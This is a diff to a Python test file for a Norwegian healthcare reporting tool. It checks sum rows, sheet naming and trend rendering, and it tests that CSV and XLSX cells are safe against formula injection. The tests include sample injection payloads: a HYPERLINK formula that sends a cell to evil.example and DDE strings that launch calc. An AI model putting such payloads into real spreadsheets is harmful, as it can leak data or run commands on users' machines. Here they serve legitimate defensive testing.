@@ -9,6 +9,8 @@ from dataclasses import replace
 from datetime import date
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from intake.i18n import Translator
 from intake.report_model import (
@@ -27,6 +29,7 @@ from intake.report_render import (
     render_html,
     render_xlsx,
 )
+from intake.spreadsheet import EXCEL_NB, FORMULA_START, CsvWriter, csv_cell, formula_like
 
 TR = Translator("nb")
 
@@ -40,7 +43,8 @@ SCRIPT_POINT = '<script>alert("x")</script> & "sitat"'
 def _breakdown(key: str, title: str, rows: list[tuple[str, str, int, int, int]]) -> Breakdown:
     return Breakdown(key=key, title=title,
                      rows=tuple(Row(k, label, n, prev, ago) for k, label, n, prev, ago in rows),
-                     total=sum(r[2] for r in rows))
+                     total=sum(r[2] for r in rows), total_previous=sum(r[3] for r in rows),
+                     total_year_ago=sum(r[4] for r in rows))
 
 
 def sample_report(*, suppressed: bool = True) -> PeriodReport:
@@ -181,7 +185,8 @@ def small_report() -> PeriodReport:
             Breakdown("category", "Kategori", (
                 Row("discharge_summary", "Epikrise", 3, 2, None),
                 Row("medication", "Legemidler", 2, 2, None),
-                Row("competence", "Kompetanse og opplæring", 0, 0, None)), total=5),
+                Row("competence", "Kompetanse og opplæring", 0, 0, None)), total=5,
+                total_previous=4),
         ),
         guideline_breached_share=0.25,
         top_problem_areas=(Row("discharge_summary/missing", "Epikrise: mangler", 3, 1, 0),),
@@ -204,11 +209,11 @@ meta,year_ago,1. tertial 2025 (2025-01-01 – 2025-04-30),,,
 kind,deviation,Avvik,4,3,0
 kind,suggestion,Forbedringsforslag,1,1,0
 kind,input,Innspill eller spørsmål,0,0,0
-kind,_total,Sum,5,,
+kind,_total,Sum,5,4,0
 category,discharge_summary,Epikrise,3,2,
 category,medication,Legemidler,2,2,
 category,competence,Kompetanse og opplæring,0,0,
-category,_total,Sum,5,,
+category,_total,Sum,5,4,
 top_problem_areas,discharge_summary/missing,Epikrise: mangler,3,1,0
 trend,2025-T3,T3 2025,4,,
 trend,2026-T1,T1 2026,5,,
@@ -242,6 +247,9 @@ def test_csv_every_breakdown_adds_up_to_its_total_and_the_report_total() -> None
         (total_line,) = [r for r in lines if r[1] == CSV_TOTAL_KEY]
         assert len(body) == len(breakdown.rows)
         assert sum(int(r[3]) for r in body) == int(total_line[3]) == report.total, breakdown.key
+        # the sum row carries the comparisons too
+        assert sum(int(r[4]) for r in body) == int(total_line[4]) == report.total_previous
+        assert sum(int(r[5]) for r in body) == int(total_line[5]) == report.total_year_ago
     assert sections["totals"][0][1:4] == ["reports", "Meldinger i alt", "47"]
     # zero categories are still rows
     assert ["category", "competence", "Kompetanse og opplæring", "0", "0", "0"] in rows
@@ -390,18 +398,23 @@ def _sheet_rows(ws) -> list[list[object]]:
 def test_xlsx_has_a_sheet_per_breakdown() -> None:
     report = sample_report()
     wb = _workbook(report)
+    # a title too long for a tab is cut between words; the merged severity has a short name
     assert wb.sheetnames == ["Oversikt", "Type melding", "Kategori", "Underkategori",
-                             "Alvorlighet (meldt)", "Alvorlighet (vurdert av gruppe…",
-                             "Alvorlighet (vurdert, slått sa…", "Retning", "Sted", "Måned",
+                             "Alvorlighet (meldt)", "Alvorlighet (vurdert av…)",
+                             "Alvorlighet (vurdert el. meldt)", "Retning", "Sted", "Måned",
                              "Læringspunkter"]
+    merged = wb["Alvorlighet (vurdert el. meldt)"]
+    assert merged["A1"].value == "Alvorlighet (vurdert, slått sammen)"  # the title as heading
     for ws in wb.worksheets:
         assert len(ws.title) <= 31
         assert all(c.font.b for c in ws[6 if ws.title == "Oversikt" else 1] if c.value)
         assert ws.column_dimensions["A"].width >= 8
     kind = _sheet_rows(wb["Type melding"])
     assert kind[0] == ["Type melding", "1. tertial 2026", "3. tertial 2025", "1. tertial 2025"]
-    assert kind[-1] == ["Sum", 47, None, None]
-    assert sum(r[1] for r in kind[1:-1]) == 47
+    assert kind[-1] == ["Sum", 47, 41, 35]  # the sum row has the comparisons too
+    exact = _sheet_rows(_workbook(sample_report(suppressed=False))["Type melding"])
+    assert [sum(r[c] for r in exact[1:-1]) for c in (1, 2, 3)] == exact[-1][1:] == [47, 41, 35]
+    assert all(c.font.b for c in wb["Type melding"][len(kind)])
 
 
 def test_xlsx_applies_suppression() -> None:
@@ -423,12 +436,34 @@ def test_xlsx_applies_suppression() -> None:
 def test_xlsx_sheet_names_are_valid_and_unique() -> None:
     report = sample_report()
     long_title = "Kategori/underkategori: [alle] * ? " + "x" * 40
+    titles = ("Kategori", "KATEGORI", long_title, long_title, "y" * 40, "'Sitat'",
+              "Samarbeid mellom kommunehelsetjenesten og sykehuset",
+              "Samarbeid mellom kommunehelsetjenesten og sykehuset (fastleger)")
     extra = tuple(Breakdown(f"extra{i}", title, (Row("a", "A", 47),), 47)
-                  for i, title in enumerate(("Kategori", "KATEGORI", long_title, long_title)))
+                  for i, title in enumerate(titles))
     names = _workbook(replace(report, breakdowns=report.breakdowns + extra)).sheetnames
-    assert names[-5:-1] == ["Kategori (2)", "KATEGORI (3)", "Kategori-underkategori- -alle-…",
-                            "Kategori-underkategori- -a… (2)"]
-    assert all(len(n) <= 31 for n in names) and len({n.casefold() for n in names}) == len(names)
+    assert names[-9:-1] == [
+        "Kategori (2)", "KATEGORI (3)", "Kategori-underkategori alle…",
+        "Kategori-underkategori… (2)",
+        "y" * 30 + "…",  # one word longer than a tab: nothing but to cut it
+        "Sitat", "Samarbeid mellom…", "Samarbeid mellom… (2)"]
+    assert all(len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n) for n in names)
+    assert len({n.casefold() for n in names}) == len(names)
+
+
+@pytest.mark.parametrize("title", [
+    "Alvorlighetsgrad (vurdert, ellers meldt)", "Severity (assessed, else reported)",
+    "Samarbeidsavtalens retningslinjer for utskrivningsklare pasienter",
+    "Kommune – sykehus, meldinger om legemiddellister", "Et veldig langt navn på en tabell ja"])
+def test_xlsx_sheet_names_are_cut_between_words(title: str) -> None:
+    report = sample_report()
+    extra = Breakdown("extra", title, (Row("a", "A", 47),), 47)
+    name = _workbook(replace(report, breakdowns=(extra,))).sheetnames[1]
+    assert len(name) <= 31 and name.endswith(("…", "…)"))
+    kept = name.removesuffix(")").removesuffix("…")
+    # what is kept is whole words of the title, and an opened parenthesis is closed
+    assert title.startswith(kept) and title[len(kept)] in " ,:;–-"
+    assert name.count("(") == name.count(")")
 
 
 def test_xlsx_learning_points_are_text_never_formulas() -> None:
@@ -441,3 +476,156 @@ def test_xlsx_learning_points_are_text_never_formulas() -> None:
     assert rows[1][3] == "=HYPERLINK(\"x\",\"klikk\")" and ws["D2"].data_type == "s"
     assert rows[3][3] == SCRIPT_POINT and rows[1][2].date() == date(2026, 4, 1)
     assert len(rows) == 5
+
+
+# --- spreadsheet-safe cells, in every writer ---------------------------------------------
+
+HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"Avtale")', "+47 cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_formula_like_text_is_defused_and_numbers_are_not(text: str) -> None:
+    assert formula_like(text) and csv_cell(text) == "'" + text.replace("\r", "\n")
+    for number in (-3, -0.25, 0, 12, "-3", "-0.25", "+5", "-1,5", "-2e3"):
+        assert not formula_like(number) and csv_cell(number) in (number, str(number))
+    assert csv_cell(-0.25, EXCEL_NB) == "-0,25" and csv_cell(None) == ""
+    assert not formula_like(" =1") and not formula_like("a=1") and not formula_like("")
+
+
+@settings(max_examples=200, deadline=None, derandomize=True)
+@given(st.one_of(st.text(max_size=12),
+                 st.tuples(st.sampled_from(FORMULA_START), st.text(max_size=12))
+                 .map("".join)))
+def test_no_csv_cell_starts_a_formula(text: str) -> None:
+    """Whatever the text, the cell read back is the text, or the text behind an
+    apostrophe when a spreadsheet would run it; a plain number stays as it is."""
+    out = io.StringIO()
+    CsvWriter(out, EXCEL_NB).writerow([text, -7])
+    (cell, number), = csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";")
+    assert number == "-7"
+    lines = text.replace("\r\n", "\n").replace("\r", "\n")  # one kind of line break
+    if cell.startswith(FORMULA_START):
+        assert re.fullmatch(r"[+-][\d.,eE+-]+", cell) and cell == text
+    else:
+        assert cell == ("'" + lines if text.startswith(FORMULA_START) else lines)
+
+
+def _hostile_report() -> PeriodReport:
+    """Every kind of free text in the report starts like a formula."""
+    report = small_report()
+    kind = replace(report.breakdowns[0], rows=(Row("deviation", HOSTILE[1], 5, 4, 0),),
+                   title=HOSTILE[2])
+    return replace(
+        report, breakdowns=(kind, *report.breakdowns[1:]),
+        top_problem_areas=(Row("x/y", HOSTILE[3], 3, 1, 0),),
+        learning_points=(LearningPoint("MELD-2026-0002", HOSTILE[0], HOSTILE[4], HOSTILE[5],
+                                       date(2026, 3, 3)),))
+
+
+@pytest.mark.parametrize("dialect", ["standard", "excel-nb"])
+def test_csv_defuses_formulas_in_every_text_cell(dialect: str) -> None:
+    delimiter = ";" if dialect == "excel-nb" else ","
+    rows = list(csv.reader(io.StringIO(render_csv(_hostile_report(), TR, dialect),
+                                       newline=""), delimiter=delimiter))
+    cells = [c for r in rows for c in r]
+    assert not [c for c in cells if c.startswith(FORMULA_START)]
+    for text in (HOSTILE[1], HOSTILE[3], HOSTILE[0], HOSTILE[4]):
+        assert "'" + text in cells
+    learning = rows[-1]
+    assert learning[2:] == ["'" + HOSTILE[0], "2026-03-03", "'" + HOSTILE[4],
+                            "'\n=1+1"]  # a lone carriage return is a line break
+
+
+def test_csv_for_a_norwegian_excel() -> None:
+    """excel-nb: semicolons and decimal commas; the same cells otherwise."""
+    report = replace(small_report(), learning_points=(LearningPoint(
+        "MELD-2026-0002", "Epikrise", "Sjekk; så send", "Æ, ø og å", date(2026, 3, 3)),))
+    standard = _csv_rows(render_csv(report, TR))
+    text = render_csv(report, TR, "excel-nb")
+    nb = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    assert text.startswith("section;key;label;count;previous;year_ago\n")
+    assert ["totals", "guideline_breached_share", "Andel avvik med brudd på retningslinje",
+            "0,2500", "", ""] in nb
+    assert ["totals", "median_days_to_feedback", "Median dager til første tilbakemelding",
+            "1,0", "", ""] in nb
+    assert nb[-1][4:] == ["Sjekk; så send", "Æ, ø og å"] and '"Sjekk; så send"' in text
+    assert [[c.replace(",", ".") if re.fullmatch(r"\d+,\d+", c) else c for c in r]
+            for r in nb] == standard
+
+
+def test_xlsx_defuses_formulas_in_every_text_cell() -> None:
+    wb = _workbook(_hostile_report())
+    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
+    assert {c.value for c in texts} >= {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]}
+    # text cells, never formulas, with Excel's quote prefix: editing one keeps it text
+    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
+    numbers = [c for row in wb["Oversikt"].iter_rows() for c in row
+               if isinstance(c.value, int)]
+    assert numbers and not any(c.quotePrefix for c in numbers)
+
+
+# --- the sum rows and the trend ----------------------------------------------------------
+
+
+def test_html_sum_row_has_the_comparisons() -> None:
+    html = render_html(sample_report(suppressed=False), TR)
+    total = re.findall(r'<tr class="sum"><th scope="row">Sum</th>(.*?)</tr>', html)
+    assert len(total) == len(sample_report().breakdowns)
+    assert re.findall(r'<td class="num">(.*?)</td>', total[0]) == [
+        "47", "100\xa0%", "41", "+6 (+15\xa0%)", "35", "+12 (+34\xa0%)"]
+    # a table without a comparison (a tertial's months against the previous tertial)
+    months = replace(sample_report().breakdowns[-1], total_previous=None, rows=tuple(
+        replace(r, previous=None) for r in sample_report().breakdowns[-1].rows))
+    report = replace(sample_report(), breakdowns=(months,))
+    (row,) = re.findall(r'<tr class="sum"><th scope="row">Sum</th>(.*?)</tr>',
+                        render_html(report, TR))
+    assert re.findall(r'<td class="num">(.*?)</td>', row) == [
+        "47", "100\xa0%", "35", "+12 (+34\xa0%)"]
+
+
+def test_sum_row_comparisons_are_suppressed_like_any_count() -> None:
+    small = replace(sample_report().breakdowns[0], total=2, total_previous=5, total_year_ago=1)
+    report = replace(sample_report(suppressed=True), breakdowns=(small,))
+    (row,) = re.findall(r'<tr class="sum"><th scope="row">Sum</th>(.*?)</tr>',
+                        render_html(report, TR))
+    assert re.findall(r'<td class="num">(.*?)</td>', row) == [
+        "&lt;3", "100\xa0%", "5", "–", "&lt;3", "–"]
+    assert _sheet_rows(_workbook(report)["Type melding"])[-1] == ["Sum", "<3", 5, "<3"]
+
+
+def _missing_trend(report: PeriodReport) -> PeriodReport:
+    """The first report came in 2024-T2: the four tertials before have no data."""
+    counts = [None, None, None, None, 0, 30, 35, 41, 47]
+    keys = [p.period for p in report.trend]
+    return replace(report, trend=tuple(TrendPoint(k, n) for k, n in zip(keys, counts,
+                                                                          strict=True)))
+
+
+def test_trend_before_the_first_report_is_no_data_not_zero() -> None:
+    report = _missing_trend(sample_report(suppressed=False))
+    html = render_html(report, TR)
+    trend = html[html.index('id="chart-trend-t"'):]
+    trend = trend[:trend.index("</svg>")]
+    # five points (the zero of 2024-T3 is a real zero), on one line from 2024-T3
+    assert trend.count('r="3.5"') == 5 and trend.count("<polyline") == 1
+    (line,) = re.findall(r'<polyline points="([^"]*)"', trend)
+    assert len(line.split()) == 5
+    labels = re.findall(r"<text[^>]*>([^<]*)</text>", trend)
+    assert labels.count("–") == 4 and labels.count("0") == 2  # the axis tick and 2024-T3
+    assert "Ingen data før den første meldingen (–)." in html
+
+    rows = _csv_rows(render_csv(report, TR))
+    trend_rows = [r[1:4] for r in rows if r and r[0] == "trend"]
+    assert trend_rows[:5] == [["2023-T2", "T2 2023", ""], ["2023-T3", "T3 2023", ""],
+                              ["2024-T1", "T1 2024", ""], ["2024-T2", "T2 2024", ""],
+                              ["2024-T3", "T3 2024", "0"]]
+    overview = [r[:2] for r in _sheet_rows(_workbook(report)["Oversikt"])]
+    assert ["T2 2024", "ingen data"] in overview and ["T3 2024", 0] in overview
+
+    nothing = replace(report, trend=tuple(TrendPoint(p.period, None) for p in report.trend))
+    html = render_html(nothing, TR)
+    assert 'id="chart-trend-t"' not in html and "Ingen data." in html
+    # every point has data: no note about missing ones
+    assert "Ingen data før" not in render_html(sample_report(), TR)
